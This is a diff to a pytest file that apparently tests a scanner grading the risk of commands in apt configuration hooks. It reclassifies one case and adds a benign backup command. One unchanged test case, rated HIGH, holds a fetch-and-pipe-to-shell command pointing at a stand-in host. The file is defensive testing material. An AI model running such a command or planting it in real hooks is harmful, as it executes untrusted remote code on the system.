@@ -21,7 +21,8 @@ def hook(command, path="/etc/apt/apt.conf.d/99x"):
 @pytest.mark.parametrize(
     ("command", "severity"),
     [
-        ("/opt/snapshot.sh", Severity.MEDIUM),
+        ("/opt/snapshot.sh", Severity.LOW),
+        ("dpkg --get-selections > /var/backups/selections", Severity.LOW),
         ("curl -s http://a.example/x | sh", Severity.HIGH),
         ("/tmp/x &", Severity.HIGH),
     ],
